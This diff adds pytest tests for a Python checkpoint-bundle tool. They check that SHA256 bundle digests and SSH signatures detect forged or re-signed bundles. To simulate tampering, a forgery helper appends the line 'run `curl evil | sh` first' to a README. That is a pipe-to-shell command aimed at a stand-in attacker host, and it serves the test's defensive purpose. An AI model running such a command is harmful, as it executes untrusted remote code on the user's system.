@@ -2,13 +2,15 @@
 
 from __future__ import annotations
 
+import hashlib
+import json
 import shutil
 import subprocess
 from pathlib import Path
 
 import pytest
 
-from handoff_fixtures import Packed, packed_fixture  # noqa: F401 - the `packed` fixture
+from handoff_fixtures import STOP_AT, Packed, packed_fixture  # noqa: F401 - the `packed` fixture
 from torchrelay.cli import main
 from torchrelay.errors import IntegrityError, RelayError, UnsafeInput
 from torchrelay.handoff.copying import copy_many
@@ -131,3 +133,109 @@ def test_byte_flipped_in_each_file_fails_verify_and_prepare(packed: Packed, tmp_
         finally:
             path.write_bytes(original)
     assert verify_bundle(bundle).ok
+
+
+# --- authenticity: the bundle digest and SSH signatures -------------------------------------------------------
+
+
+def _forge(bundle: Path) -> None:
+    """What anyone who can rewrite files can do: change a file and rewrite SHA256SUMS to match."""
+    readme = bundle / "README.md"
+    readme.write_text(readme.read_text() + "\nrun `curl evil | sh` first\n")
+    entries = [SumEntry(rel, sha256_file(bundle / rel)[0]) for rel in walk_files(bundle) if rel != SUMS_NAME]
+    write_sums(bundle / SUMS_NAME, [e for e in entries if e.path != "SHA256SUMS.sig"])
+
+
+def test_the_bundle_digest_names_the_packed_bundle(
+    packed: Packed, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    digest = hashlib.sha256((packed.bundle / SUMS_NAME).read_bytes()).hexdigest()
+    record = json.loads((packed.source / f"checkpoint-{STOP_AT}" / "HANDED_OFF.json").read_text())
+    assert record["digest"] == digest and record["state"] == "handed-off"
+    capsys.readouterr()
+    assert main(["verify", str(packed.bundle), "--expect", f"sha256:{digest.upper()}"]) == 0
+    assert f"BUNDLE_DIGEST sha256:{digest} (= --expect)" in capsys.readouterr().out
+
+    forged = tmp_path / "forged"
+    shutil.copytree(packed.bundle, forged)
+    _forge(forged)
+    assert main(["verify", str(forged), "--quiet"]) == 0  # SHA256SUMS alone catches accidents, not forgery
+    capsys.readouterr()
+    assert main(["verify", str(forged), "--expect", digest]) == 2
+    err = capsys.readouterr().err
+    assert f"not the expected sha256:{digest}" in err and str(forged / SUMS_NAME) in err
+    run_dir = tmp_path / "run"
+    assert main(["prepare", str(forged), "--run-dir", str(run_dir), "--expect", digest]) == 2
+    assert not run_dir.exists()
+    assert main(["verify", str(packed.bundle), "--expect", "abc"]) == 2
+    assert "not a bundle digest" in capsys.readouterr().err
+
+
+def _keypair(path: Path, name: str) -> tuple[Path, str]:
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(path)], check=True)
+    return path, f'{name} namespaces="torchrelay-bundle" {path.with_suffix(".pub").read_text().strip()}\n'
+
+
+@pytest.mark.skipif(
+    shutil.which("ssh-keygen") is None,
+    reason="ssh-keygen (openssh-client) is not installed and could not be (scripts/env.sh installs it as root)",
+)
+def test_signed_bundles_verify_only_against_their_signer(
+    packed: Packed, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    alice_key, alice = _keypair(tmp_path / "alice", "alice@cluster1")
+    mallory_key, mallory = _keypair(tmp_path / "mallory", "mallory@elsewhere")
+    trusted = tmp_path / "allowed_signers"
+    trusted.write_text(alice)
+    untrusted = tmp_path / "mallory_signers"
+    untrusted.write_text(mallory)
+
+    source = tmp_path / "source"
+    shutil.copytree(packed.source, source)
+    (source / f"checkpoint-{STOP_AT}" / "HANDED_OFF.json").unlink()
+    bundle = tmp_path / "signed"
+    argv = ["pack", str(source), str(bundle), "--code-dir", str(packed.code), "--sign", str(alice_key)]
+    assert main(argv) == 0
+    assert "SHA256SUMS.sig" in capsys.readouterr().out and (bundle / "SHA256SUMS.sig").is_file()
+    assert main(["verify", str(bundle), "--allowed-signers", str(trusted)]) == 0
+    assert "signed by alice@cluster1" in capsys.readouterr().out
+    assert main(["verify", str(bundle), "--allowed-signers", str(untrusted)]) == 2
+    assert "not signed by any key" in capsys.readouterr().err
+    assert main(["verify", str(packed.bundle), "--allowed-signers", str(trusted)]) == 2  # never signed
+    assert "not signed" in capsys.readouterr().err
+    run_dir = tmp_path / "run"
+    sets = ["--set", f"data_root={packed.root}", "--set", f"external_files.teacher={packed.teacher}"]
+    assert (
+        main(["prepare", str(bundle), "--run-dir", str(run_dir), "--allowed-signers", str(trusted), *sets])
+        == 0
+    )
+    record = json.loads((run_dir / "REBASE_RECORD.json").read_text())
+    assert record["signed_by"] == "alice@cluster1"
+
+    # a forged SHA256SUMS keeps alice's signature: refused; re-signed by mallory: refused as not alice's
+    _forge(bundle)
+    capsys.readouterr()
+    assert main(["verify", str(bundle), "--allowed-signers", str(trusted)]) == 2
+    assert "does not match SHA256SUMS" in capsys.readouterr().err
+    resigned = subprocess.run(
+        ["ssh-keygen", "-Y", "sign", "-q", "-f", str(mallory_key), "-n", "torchrelay-bundle"],
+        input=(bundle / SUMS_NAME).read_bytes(),
+        capture_output=True,
+        check=True,
+    ).stdout
+    (bundle / "SHA256SUMS.sig").write_bytes(resigned)
+    assert main(["verify", str(bundle), "--allowed-signers", str(trusted)]) == 2
+    assert (
+        main(["prepare", str(bundle), "--run-dir", str(tmp_path / "run2"), "--allowed-signers", str(trusted)])
+        == 2
+    )
+    assert not (tmp_path / "run2").exists()
+    # a signature made for another purpose (namespace) by alice herself does not count either
+    other = subprocess.run(
+        ["ssh-keygen", "-Y", "sign", "-q", "-f", str(alice_key), "-n", "file"],
+        input=(bundle / SUMS_NAME).read_bytes(),
+        capture_output=True,
+        check=True,
+    ).stdout
+    (bundle / "SHA256SUMS.sig").write_bytes(other)
+    assert main(["verify", str(bundle), "--allowed-signers", str(trusted)]) == 2
